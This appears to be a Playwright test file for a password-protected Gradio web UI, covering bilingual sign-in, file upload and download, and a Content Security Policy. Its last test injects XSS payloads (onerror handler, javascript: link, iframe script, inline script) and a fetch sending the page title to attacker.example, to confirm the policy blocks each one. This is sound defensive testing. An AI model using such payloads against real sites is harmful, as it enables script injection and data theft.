"""A page that is served to others, in a real browser: signing in, and Gradio under the policy."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from tests.ui.office import HEAD, served
from ui.serving.accounts import Accounts, set_password
from ui.serving.protection import Protection

PASSWORD = "正しい馬の電池ホチキス"
UPLOAD = FilePayload(name="plan.txt", mimeType="text/plain", buffer=b"plan")


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path = tmp_path_factory.mktemp("accounts") / "accounts.txt"
    set_password(path, "田中", PASSWORD)
    names = frozenset(("127.0.0.1", "localhost"))
    with served(Protection(names, Accounts(path), scripts=(HEAD,)), 8140) as address:
        yield address


@contextmanager
def opened(browser: Browser, locale: str, width: int = 1440) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what went wrong on it: console errors, and requests to other places."""
    context = browser.new_context(locale=locale, viewport={"width": width, "height": 900})
    context.set_default_timeout(15_000)
    page, wrong = context.new_page(), list[str]()
    page.on("console", lambda said: wrong.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on(
        "request",
        lambda sent: (
            wrong.append(sent.url)
            if urlsplit(sent.url).hostname not in ("127.0.0.1", None)
            else None
        ),
    )
    yield page, wrong
    context.close()


def sign_in(page: Page, password: str = PASSWORD) -> None:
    page.fill("input[name=username]", "田中")
    page.fill("input[name=password]", password)
    page.press("input[name=password]", "Enter")


@pytest.mark.parametrize(("locale", "width"), [("ja-JP", 390), ("en-GB", 1440)])
def test_a_reader_signs_in_at_a_link_and_gets_there(
    browser: Browser, url: str, locale: str, width: int
) -> None:
    japanese = locale == "ja-JP"
    with opened(browser, locale, width) as (page, wrong):
        page.goto(f"{url}/#doc/12-34")
        expect(page).to_have_url(f"{url}/login#doc/12-34")
        expect(page.locator("html")).to_have_attribute("lang", locale[:2])
        expect(page.get_by_role("button")).to_have_text("サインイン" if japanese else "Sign in")
        expect(page.get_by_label("名前" if japanese else "Name")).to_be_focused()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert wrong == []
        sign_in(page, "a wrong password")
        alert = page.get_by_role("alert")
        expect(alert).to_have_text(
            "名前かパスワードが違います。" if japanese else "The name or the password is wrong."
        )
        assert page.input_value("input[name=username]") == "田中"
        wrong.clear()  # Chromium reports the status 401
        sign_in(page)
        expect(page.locator("#ask textarea")).to_be_visible()
        expect(page).to_have_url(f"{url}/#doc/12-34")
        page.goto(f"{url}/logout")
        page.get_by_role("button").click()
        expect(page).to_have_url(f"{url}/login")
        page.go_back()
        page.go_back()
        expect(page.locator("input[name=username]")).to_be_visible()  # not the page, from a cache
        assert wrong == []


def test_gradio_works_under_the_policy(browser: Browser, url: str, tmp_path: Path) -> None:
    with opened(browser, "en-GB") as (page, wrong):
        page.goto(url)
        sign_in(page)
        page.fill("#ask textarea", "a question")
        page.press("#ask textarea", "Enter")
        expect(page.locator("#chat mark")).to_have_text("10")
        expect(page.locator("#chat")).to_contain_text("from 田中")  # who asks is known to Gradio
        page.wait_for_function("document.title === 'answered'")  # an event's own script
        assert page.evaluate("window.fromHead") == 1
        expect(page.locator("#shout")).to_have_text("quiet!")  # a function of the server
        page.set_input_files("#file input[type=file]", [UPLOAD])
        expect(page.locator("#names textarea")).to_have_value("plan.txt")
        with page.expect_download() as download:
            page.locator("#file a[download]").first.click()
        download.value.save_as(tmp_path / "plan.txt")
        assert (tmp_path / "plan.txt").read_bytes() == b"plan"
        assert wrong == []


def test_what_comes_from_a_document_could_do_no_harm(browser: Browser, url: str) -> None:
    """Even if it were shown as HTML, which it is not."""
    with opened(browser, "en-GB") as (page, wrong):
        page.goto(url)
        sign_in(page)
        expect(page.locator("#ask textarea")).to_be_visible()
        page.evaluate(
            """() => {
                document.body.insertAdjacentHTML("beforeend", `
                    <img src=x onerror="window.harmed = 1"><a id="bad"
                    href="javascript:window.harmed = 1">x</a>
                    <iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>
                    <img src="https://attacker.example/x.png">`);
                const script = document.createElement("script");
                script.textContent = "window.harmed = 1";
                document.body.append(script);
                document.querySelector("#bad").click();
                fetch("https://attacker.example/?" + document.title).catch(() => {});
            }"""
        )
        page.wait_for_timeout(500)
        assert page.evaluate("window.harmed") is None
        refused = [said for said in wrong if "Content Security Policy" in said]
        for attempt in ("event handler", "javascript:", "inline script", "x.png", "/?"):
            assert any(attempt in said for said in refused), (attempt, refused)
